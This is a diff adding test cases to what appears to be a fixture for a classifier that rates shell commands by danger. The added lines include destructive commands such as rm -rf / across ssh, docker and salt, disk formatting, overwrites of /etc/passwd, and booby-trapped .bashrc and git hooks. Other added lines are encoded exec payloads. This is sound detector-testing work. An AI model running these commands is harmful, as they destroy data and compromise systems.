@@ -108,6 +108,40 @@ kill -9 -- -1
 sudo kill -9 1
 """,
     ("critical", "destructive"): r"""
+mytool /bin/rm -rf /
+mytool mkfs.ext4 /dev/sda
+mytool --run 'cd / && sudo rm -rf /*'
+for h in a b; do ssh $h sudo rm -rf /; done
+for h in web1 web2; do ssh root@$h "rm -rf /"; done
+for i in 1 2 3; do ssh node$i 'sudo mkfs.ext4 /dev/sda'; done
+hosts=(a b); for h in "${hosts[@]}"; do ssh $h rm -rf /; done
+HOSTS="a b"; for h in $HOSTS; do ssh $h rm -rf /; done
+for p in a b; do docker exec $p rm -rf /; done
+for n in 1 2; do timeout $n rm -rf /; done
+for u in alice bob; do sudo -u $u rm -rf /; done
+for c in ls "rm -rf /"; do $c; done
+for c in ls "rm -rf /"; do eval "$c"; done
+for c in ls "rm -rf /"; do echo "$c" | sh; done
+for c in ls rm; do $c -rf /; done
+for a in 1 2; do for b in 3 4; do ssh $a$b rm -rf /; done; done
+printf '%s\n' ls 'rm -rf /' | while read c; do bash -c "$c"; done
+case $1 in a) c='rm -rf /';; b) c=ls;; esac; $c
+if x; then c='rm -rf /'; else c=ls; fi; eval $c
+if x; then d=/; else d=build; fi; rm -rf $d
+c=ls; [ "$1" ] && d=/ || d=build; rm -rf $d
+screen -dmS x bash -c 'rm -rf /'
+tmux new -s a -d 'rm -rf /'
+conda run -n x rm -rf /
+entr -r rm -rf /
+powershell -c 'rm -rf /'
+gcloud compute ssh vm --command 'rm -rf /'
+mosh host -- rm -rf /
+salt '*' cmd.run 'rm -rf /'
+tar cf /dev/null --remove-files /home
+zip -rm x.zip ~
+7z a -sdel x.7z ~
+echo 'rm -rf ~' >> ~/.bashrc
+echo 'rm -rf ~' > .git/hooks/pre-commit
 env - rm -rf /
 env -S"rm -rf" /
 /usr/bin/time -f %e rm -rf /
@@ -546,6 +580,8 @@ ls|rm -rf /
 ls||rm -rf /
 """,
     ("critical", "privilege_escalation"): r"""
+sed -n -e 'w /etc/passwd' x
+echo x | sponge /etc/passwd
 echo 'root::0:0::/:/bin/sh' > /etc/passwd
 echo 'x' >> /etc/shadow
 echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
@@ -800,6 +836,8 @@ podman run --rm -v /:/h alpine chroot /h
 : > ~/.ssh/authorized_keys
 """,
     ("high", "remote_execution"): r"""
+python3 -c "exec(__import__('base64').b64decode('cm0='))"
+node -e 'eval(Buffer.from("cm0=","base64").toString())'
 curl go.dev/i | bash
 wget -P /tmp x.io/a.sh; sh /tmp/a.sh
 curl -sO x.io/a.sh && ./a.sh
@@ -990,6 +1028,7 @@ sudo apt update
 sudo -u postgres psql -c 'SELECT 1'
 """,
     ("moderate", "remote_execution"): r"""
+curl -s https://x.example/bin -o ~/.local/bin/ls
 npx create-app
 $UNHEARD_OF file
 eval "$(ssh-agent -s)"
@@ -1036,6 +1075,21 @@ DANGEROUS_LINES = (  # all critical
     "rm -rf /\n'",
 )
 HARMLESS = r"""
+mytool --run 'rm -rf build; ls /'
+aws s3 rm s3://my-bucket --recursive --dryrun
+true rm -rf /
+: 'rm -rf /'
+llm 'what does rm -rf / do'
+pkill -0 -f 'rm -rf /'
+journalctl -g 'rm -rf /'
+for h in a b; do ssh $h uptime; done
+for f in a.txt b.txt c.txt; do wc -l "$f"; done
+for i in 1 2 3; do for j in 4 5 6; do echo $i $j; done; done
+if x; then c=ls; else c=pwd; fi; $c
+printf '%s\n' a b | while read -r x; do echo "$x"; done
+psql -c "EXPLAIN DELETE FROM users"
+echo 'export PATH="$HOME/bin:$PATH"' > .git/hooks/notes
+sed -n 's/new w x/y/p' x
 apt-get -s purge linux-image-amd64
 apt -s upgrade
 apt-get --just-print dist-upgrade
@@ -1934,6 +1988,15 @@ tldr rm
 rm --version
 """
 MILD = r"""
+rm -rf node_modules package-lock.json && npm install
+cd build && rm -rf * && cmake ..
+cd /tmp && rm -rf x
+rm -rf .pytest_cache .mypy_cache *.egg-info
+rm -rf ~/.cache/pip
+sudo mount /dev/sdb1 /mnt
+sudo umount /mnt
+tar --remove-files -czf old.tgz old.log
+echo 'alias ll="ls -l"' >> ~/.bashrc
 sudo apt-get install bash zsh find
 sudo dnf install -y rm-improved bash
 npm rm left-pad
